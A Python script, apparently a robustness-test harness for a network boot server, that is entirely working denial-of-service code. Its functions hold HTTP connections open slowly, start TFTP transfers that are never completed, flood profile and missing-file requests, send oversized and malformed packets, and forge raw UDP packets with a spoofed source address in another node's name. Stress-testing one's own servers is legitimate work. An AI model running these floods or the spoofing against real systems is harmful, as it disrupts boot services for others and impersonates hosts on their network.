# SPDX-License-Identifier: Apache-2.0
"""``floods.py KIND SERVER NODE ADDRESS...``: take what a boot server has, until killed.

NODE is the address of a node, in whose name packets are sent; the addresses are the stranger's own.
"""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress

HTTP, TFTP = 8069, 69


def read_slowly(server: str, node: str, own: list[str]) -> None:
    """Hold as many connections as there are, each in the middle of a request."""
    held = []
    for address in itertools.islice(itertools.cycle(own), 3000):
        with suppress(OSError):
            connection = socket.create_connection((server, HTTP), 1, (address, 0))
            connection.sendall(b"GET /boot.ipxe HTTP/1.1\r\nHost: h\r\nX: ")
            held.append(connection)
    while True:
        for connection in held:
            with suppress(OSError):
                connection.send(b"x")
        time.sleep(2)


def take_tftp(server: str, node: str, own: list[str]) -> None:
    """Begin transfers, and confirm nothing."""
    for address in itertools.cycle(own):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.bind((address, 0))
            client.sendto(b"\0\1boot.ipxe\0octet\0blksize\x008\0", (server, TFTP))
            time.sleep(0.002)


def ask_for_profiles(server: str, node: str, own: list[str]) -> None:
    """Ask for the profile of the node by TFTP, which the store must be asked for."""
    clients = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in own]
    for client, address in zip(clients, own, strict=True):
        client.bind((address, 0))
    for number, client in enumerate(itertools.cycle(clients)):
        client.sendto(f"\0\1profiles/{node}\0octet\0".encode(), (server, TFTP))
        if number % 20 == 0:
            time.sleep(0.01)


def speak_for_the_node(server: str, node: str, own: list[str]) -> None:
    """Send requests by TFTP in the name of the node."""
    request = b"\0\1boot.ipxe\0octet\0"
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for port in itertools.cycle(range(20_000, 60_000)):
        udp = struct.pack("!HHHH", port, TFTP, 8 + len(request), 0) + request
        source, target = socket.inet_aton(node), socket.inet_aton(server)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, target)
        raw.sendto(ip + udp, (server, 0))
        time.sleep(0.01)


def send_garbage(server: str, node: str, own: list[str]) -> None:
    """Send to both ports what is no request of theirs, and names that are too long."""
    for address in itertools.cycle(own):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.bind((address, 0))
            for packet in (
                b"\0\1" + b"x" * 65_000 + b"\0octet\0",
                b"\0\1" + b"\1" * 60_000 + b"\0",
                b"\0\4\0\1",
                b"",
            ):
                client.sendto(packet, (server, TFTP))
        with suppress(OSError), socket.create_connection((server, HTTP), 1, (address, 0)) as connection:
            connection.sendall(b"GET /\x1b[31m HTTP/1.1\r\nA\0: b\r\n\r\n")
        time.sleep(0.01)


def ask_for_nothing(server: str, node: str, own: list[str]) -> None:
    """Ask for files that are not there, so that the log of requests gets lines."""
    for number, address in enumerate(itertools.cycle(own)):
        with suppress(OSError), socket.create_connection((server, HTTP), 1, (address, 0)) as connection:
            connection.sendall(f"GET /nothing-{number} HTTP/1.1\r\nHost: h\r\n\r\n".encode())
            connection.recv(1000)
        time.sleep(0.005)


def connect(server: str, node: str, own: list[str]) -> None:
    """Connect and go away."""
    for address in itertools.cycle(own):
        with suppress(OSError), socket.create_connection((server, HTTP), 1, (address, 0)):
            time.sleep(0.002)


KINDS: dict[str, Callable[[str, str, list[str]], None]] = {
    one.__name__: one
    for one in (
        *(read_slowly, take_tftp, ask_for_profiles, speak_for_the_node),
        *(send_garbage, ask_for_nothing, connect),
    )
}

if __name__ == "__main__":
    KINDS[sys.argv[1]](sys.argv[2], sys.argv[3], sys.argv[4:])
